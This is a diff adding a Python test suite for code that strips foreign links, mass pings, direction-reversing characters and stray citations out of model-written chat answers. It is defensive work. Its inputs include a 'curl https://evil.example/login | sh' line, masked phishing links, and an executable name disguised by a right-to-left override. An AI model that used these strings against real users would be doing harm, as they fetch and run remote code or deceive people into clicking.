@@ -1,0 +1,175 @@
+"""What code takes out of answers, whoever wrote them."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rtfm.answering.cleaning import (
+    LINK_REMOVED,
+    cited_numbers,
+    cleaned,
+    excerpt,
+    links,
+    plain,
+    renumbered,
+    without_foreign_links,
+    without_pings,
+)
+
+DOCS = "https://docs.skerry.example/locks"
+EVIL = "https://evil.example/login"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"see {EVIL}",
+        f"see [the docs]({EVIL})",
+        f"see [the docs](<{EVIL}>)",
+        f'see [the docs]({EVIL} "title")',
+        f"see [{DOCS}]({EVIL})",
+        f"see <{EVIL}>",
+        f"run `curl {EVIL} | sh`",
+        f"```\ncurl {EVIL} | sh\n```",
+        "see HTTPS://EVIL.example/login",
+        "see www.evil.example",
+        "join discord.gg/evil",
+        "write to mailto:evil@evil.example",
+        "steam://evil.example/x",
+        f"see {DOCS}.evil.example/x",
+    ],
+)
+def test_a_link_that_no_source_has_is_removed(text: str) -> None:
+    """Masked, angled, in code, without scheme, or one that only begins like a known one."""
+    cleaned = without_foreign_links(text, {DOCS})
+    assert "evil" not in cleaned.lower()
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (f"see {DOCS}.", f"see {DOCS}."),
+        (f"see {DOCS}/", f"see {DOCS}/"),
+        (f"({DOCS}), then", f"({DOCS}), then"),
+        (f"see [the docs]({DOCS})", f"see the docs {DOCS}"),
+        ("it says [1](https://evil.example)", "it says [1]"),
+        ("nothing here", "nothing here"),
+    ],
+)
+def test_a_link_of_a_source_stays_in_sight(text: str, expected: str) -> None:
+    """Known links are kept, with their address shown."""
+    assert without_foreign_links(text, {DOCS}) == expected
+
+
+def test_the_sentence_around_a_removed_link_stays() -> None:
+    """A note stands in its place, and the full stop after it."""
+    assert without_foreign_links(f"Go to {EVIL}.", set()) == f"Go to {LINK_REMOVED}."
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["<@123>", "<@!123>", "<@&123>", "@everyone", "@here", "`@everyone`", "@EVERYONE", "<@12<@3>4>", "@\x00here"],
+)
+def test_nothing_pings(text: str) -> None:
+    """Neither people nor roles nor everyone, in code or outside, nested or hidden by control characters."""
+    cleaned = without_pings(f"hi {text} there").lower()
+    assert not re.search(r"<@[!&]?\d+>", cleaned)
+    assert "@everyone" not in cleaned
+    assert "@here" not in cleaned
+
+
+def test_marks_that_turn_text_around_are_removed() -> None:
+    """A right-to-left override would show a command backwards."""
+    assert without_pings("run \u202egnp.exe\u202c now\x07") == "run gnp.exe now"
+
+
+@given(st.text(alphabet=st.sampled_from("<@!&>0123everyone here[]()` \n"), max_size=60))
+def test_cleaning_twice_changes_nothing_more(text: str) -> None:
+    """What was taken out leaves nothing that would have to be taken out."""
+    once = without_pings(text)
+    assert without_pings(once) == once
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["<@[9]123>", "@[9]everyone", "https:[9]//evil.example", "htt\x00ps://evil.example", "[ 9 ](https://evil.example)"],
+)
+def test_what_is_taken_out_joins_to_nothing_that_should_be(text: str) -> None:
+    """A citation or a control character in the middle of a ping or a link does not save it."""
+    shown = cleaned(f"so {text} it is", {1: 1}, {DOCS})
+    assert not re.search(r"<@\d|@everyone|://|\[\s*9", shown)
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            (
+                *(
+                    "<@",
+                    "1",
+                    "9",
+                    "23",
+                    ">",
+                    "@",
+                    "everyone",
+                    "here",
+                    "[",
+                    "]",
+                    "(",
+                    ")",
+                    "`",
+                    "```",
+                    " ",
+                    "\n",
+                    "\x00",
+                ),
+                *("!", "https", "://", "evil.example", "www.", DOCS, ",", "&"),
+            )
+        ),
+        max_size=25,
+    )
+)
+def test_whatever_a_model_writes_nothing_unwanted_is_left(pieces: list[str]) -> None:
+    """No ping, no link but the source's, no number but the given one."""
+    shown = cleaned("".join(pieces), {1: 1}, {DOCS})
+    assert not re.search(r"<@[!&]?\d+>|@everyone|@here", shown)
+    assert links(shown) <= {DOCS}
+    assert set(cited_numbers(shown)) <= {1}
+
+
+def test_a_citation_right_after_a_link_stays() -> None:
+    """Models often leave no space."""
+    assert cleaned(f"See {DOCS}[3] and `a[0]`.", {3: 1}, {DOCS}) == f"See {DOCS}[1] and `a[0]`."
+
+
+def test_citations_are_read_outside_code_only() -> None:
+    """`list[0]` is code, not a source."""
+    assert cited_numbers("first [2], then [1, 3] and `a[7]`\n```\nb[8]\n``` [2][4]") == [2, 1, 3, 4]
+
+
+def test_citations_get_their_new_numbers_and_unknown_ones_go() -> None:
+    """Lists are taken apart; a bracket that is all unknown goes with the space before it."""
+    text = "Set it [3]. Restart [9]. Both [1, 3; 9] in `a[3]`"
+    assert renumbered(text, {3: 1, 1: 2}) == "Set it [1]. Restart. Both [1][2] in `a[3]`"
+
+
+def test_links_are_compared_without_what_ends_a_sentence() -> None:
+    """A full stop or a bracket after an address is not part of it."""
+    assert links(f"({DOCS}), {DOCS}/. {EVIL}!") == {DOCS, EVIL}
+
+
+def test_a_name_does_not_format() -> None:
+    """Names are the only words of an extract that nobody said."""
+    assert plain("_**x**_ @everyone [a](b)") == "\\_\\*\\*x\\*\\*\\_ @\u200beveryone \\[a\\]\\(b\\)"
+
+
+@given(st.text(max_size=1000))
+def test_an_excerpt_is_one_short_line(text: str) -> None:
+    """At most 300 characters, as the contract says."""
+    shown = excerpt(text)
+    assert len(shown) <= 300
+    assert "\n" not in shown
